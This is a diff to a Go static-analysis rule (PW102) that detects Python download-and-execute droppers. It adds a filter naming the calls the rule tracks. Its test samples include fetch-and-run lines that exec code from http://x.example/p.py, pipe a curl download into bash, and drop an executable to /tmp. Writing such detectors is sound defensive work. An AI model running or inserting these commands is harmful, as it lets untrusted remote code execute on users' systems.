@@ -17,6 +17,7 @@ func init() {
 		Flagged:        []string{"import urllib.request\nexec(urllib.request.urlopen(\"http://x.example/p.py\").read())\n", "import requests, os\nbody = requests.get(url).content\nwith open(\"/tmp/x\", \"wb\") as f:\n    f.write(body)\nos.chmod(\"/tmp/x\", 0o755)\n", "import os\nos.system('curl -fsSL http://x.example/i.sh | bash')\n"},
 		Clean:          []string{"import requests, json\ndata = json.loads(requests.get(url).text)\n", "import subprocess\nsubprocess.run(['curl', '-fsSLo', 'data.zip', url], check=True)\n"},
 		Kinds:          []Kind{KindCall, KindFunctionDef, KindEnd},
+		CallWhen:       func(_ *Context, q, method string) bool { return dropNoted(q, method) },
 		Check: func(c *Context, n ast.Node) {
 			st := c.state(func() any { return &dropState{written: map[string][]ast.Node{}, fetching: map[ast.Node]bool{}} }).(*dropState)
 			if fn, ok := n.(*ast.FunctionDef); ok {
@@ -59,6 +60,18 @@ func (st *dropState) fn(call *ast.Call) ast.Node {
 		return nil
 	}
 	return st.funcs[len(st.funcs)-1]
+}
+
+// dropNoted reports whether PW102 takes note of a call of q (method: the
+// attribute called) or checks its command: note's and callCommand's
+// names.
+func dropNoted(q, method string) bool {
+	switch q {
+	case "urllib.request.urlretrieve", "urllib.urlretrieve", "bytes.fromhex", "codecs.decode", "os.chmod", "os.startfile", "os.system", "os.popen":
+		return true
+	}
+	return networkFunc[q] || strings.HasSuffix(q, "b64decode") || strings.HasSuffix(q, "decompress") ||
+		processFuncs[q] || writeTargetName(q, method)
 }
 
 func (st *dropState) note(c *Context, call *ast.Call) {
